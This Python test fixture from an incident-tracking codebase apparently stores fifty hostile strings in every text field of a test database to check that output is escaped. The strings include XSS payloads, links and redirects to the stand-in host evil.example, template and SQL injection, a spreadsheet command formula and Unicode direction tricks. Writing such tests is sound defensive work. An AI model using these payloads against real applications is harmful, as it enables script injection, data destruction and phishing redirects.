"""Fifty strings that would run, restyle, lead away or turn the page around, were they ever more than words; and a book
in which each of them stands wherever a report or a person can say something."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from tests.desk.made import hostile
from tollbook.figures.consolidation import consolidate
from tollbook.merging.version import merging_version
from tollbook.model.account import Account, Reading
from tollbook.model.claim import Doubt, LedgerLine
from tollbook.model.correction import Field
from tollbook.model.judgement import Judgement, Verdict
from tollbook.model.text import Report
from tollbook.model.values import ActorKind, ActorRef, Basis, Perpetrator, PlaceRef
from tollbook.persons import reviews
from tollbook.persons.corrections import correct
from tollbook.store.book import Book
from tollbook.workflow.comparing import Comparer

HOSTILE = (
    "<script>fail()</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>fail()</script>",
    "<ScRiPt>fail()</sCrIpT>",
    "<img src=x onerror=fail()>",
    '"><img src=x onerror=fail()>',
    "'><img src=x onerror='fail()'>",
    "`><img src=x onerror=fail()>",
    "<svg onload=fail()>",
    "'><svg/onload=fail()>",
    "<svg><script>fail()</script></svg>",
    "<math><mtext></mtext><script>fail()</script></math>",
    "<body onload=fail()>",
    "<iframe src=javascript:fail()></iframe>",
    "<iframe srcdoc='<script>parent.fail()</script>'></iframe>",
    "<object data=javascript:fail()></object>",
    "<embed src=javascript:fail()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "</mark></a><style>*{display:none}</style>",
    "<form action=//evil.example/><button>Keep</button></form>",
    "<input autofocus onfocus=fail()>",
    "<details open ontoggle=fail()>x</details>",
    "<video><source onerror=fail()></video>",
    "<a href=javascript:fail()>here</a>",
    "<template><script>fail()</script></template>",
    "</textarea><script>fail()</script>",
    "</title><script>fail()</script>",
    "</select><img src=x onerror=fail()>",
    "<!--><script>fail()</script>",
    "]]><script>fail()</script>",
    "javascript:fail()",
    "JaVaScRiPt:fail()//",
    " javascript:fail()",
    "java\tscript:fail()",
    "data:text/html,<script>fail()</script>",
    "vbscript:fail()",
    "//evil.example/",
    "x style=position:fixed onmouseover=fail() ",
    '" autofocus onfocus=fail() x="',
    "' onclick=fail() '",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${fail()}#{fail()}<%= fail() %>",
    "\u202eevil\u202c &lt;b&gt; &#106;avascript:fail()",
    "\u2066\u2067\u202bturned\u2069 \u200f\u061c",
    "\ufeff\u200b\u00ad<b>\u0301\u0301\u0301</b>",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE incident; --",
)

AT = "2024-03-08T09:00:00.000000+00:00"


def incident_of(number: int) -> str:
    return f"i-{number:016x}"


def _renamed(number: int, words: str) -> tuple[Report, Account]:
    report, account = hostile(words)
    ids = {claim.id: f"{claim.id}-{number}" for claim in account.claims}
    claims = tuple(replace(claim, id=ids[claim.id]) for claim in account.claims)
    report = replace(report, source_id=words)
    return report, replace(account, id=f"a-{number:02}", report_id=report.id, claims=claims)


def make_hostile_book(path: Path) -> Path:
    """An incident for each of the strings."""
    with Book.open(path, create=True) as book:
        book.start_run({"reader": HOSTILE[0], HOSTILE[1]: HOSTILE[2], "merging": merging_version()}, at=AT)
        for number, words in enumerate(HOSTILE):
            report, account = _renamed(number, words)
            ledger = tuple(LedgerLine(claim.evidence[0].span, words, claim.id) for claim, _ in account.tolls)
            with book.transaction():
                book.save_report(report, report.text.encode())
                doubts = (Doubt(account.claims[0].evidence[0].span, f"test/{number}", words),)
                book.save_reading(Reading(report.id, (account,), ledger, doubts))
                Comparer(book, at=AT).enter(account, report)
                book.save_incident(consolidate(incident_of(number), [account], {report.id: report}))
        for number, words in enumerate(HOSTILE[1:], 1):
            said = Judgement(f"a-{number - 1:02}", f"a-{number:02}", Verdict.UNSURE, "machine", AT, words, 0.1)
            book.save_judgement(said)
        for number, words in enumerate(HOSTILE):
            actor = Perpetrator(ActorRef(words, ActorKind.ORGANIZATION), Basis.STATED)
            correct(book, incident_of(number), Field.PERPETRATORS, actor, by=words.strip(), because=words)
            place = PlaceRef(words, words, words, "MX", 19.5, -99.25 + number, 1, None)
            correct(book, incident_of(number), Field.PLACE, place, by=words.strip(), because=words)
            if number % 2:
                reviews.reject(book, incident_of(number), by=words.strip(), because=words)
    return path
